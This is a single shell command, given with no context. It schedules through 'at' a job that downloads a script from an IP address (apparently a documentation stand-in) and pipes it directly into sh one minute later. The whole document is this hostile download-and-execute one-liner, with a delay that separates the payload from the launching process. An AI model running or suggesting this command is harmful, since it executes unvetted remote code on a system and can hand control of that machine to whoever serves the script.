echo "curl http://203.0.113.2/x | sh" | at now + 1 minute
